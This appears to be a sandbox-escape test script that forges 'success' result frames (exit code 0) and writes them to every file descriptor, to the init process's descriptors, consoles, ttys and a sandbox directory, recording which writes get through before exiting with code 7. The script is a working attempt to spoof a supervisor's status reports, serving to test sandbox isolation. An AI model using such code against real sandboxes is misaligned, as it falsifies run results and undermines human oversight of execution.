# Frames of its own in the stream to the worker, which say that all went well: on every descriptor, terminal and pipe that there is, with
# the layout of real ones and a code that cannot be right without the key. It ends with 7, and that is what has to be told.
import glob, json, os, struct
from attack import *

report = json.dumps({"name": "run", "exit_code": 0, "signal": 0, "cause": "", "duration_seconds": 0.001}).encode()
frames = b""
for kind, payload in ((b"S", report), (b"R", report), (b"E", b"{}"), (b"K", b"{}"), (b"O", b"\x01forged")):
    frames += kind + struct.pack(">I", len(payload)) + payload + b"\0" * 32
    frames += kind + struct.pack("<I", len(payload)) + payload + b"\xff" * 32
multiplexed = b"\x01\0\0\0" + struct.pack(">I", len(frames)) + frames
for fd in range(256):
    if fd in (1, 2):
        continue
    try:
        os.write(fd, frames + multiplexed)
        escaped("wrote to descriptor %d" % fd, os.readlink("/proc/self/fd/%d" % fd))
    except OSError:
        pass
for path in ["/proc/1/fd/0", "/proc/1/fd/1", "/proc/1/fd/2", "/dev/console", "/dev/tty", "/dev/ttyS0", "/dev/tty0"] + glob.glob("/dev/pts/[0-9]*") + glob.glob("/.sandloop/*"):
    try:
        fd = os.open(path, os.O_WRONLY | os.O_NOCTTY | os.O_NONBLOCK)
        os.write(fd, frames)
        escaped("wrote to " + path)
    except OSError as e:
        stopped(path, reason(e))
stopped("what follows is output")
os.write(1, frames + multiplexed)
os.write(2, frames + multiplexed)
os._exit(7)
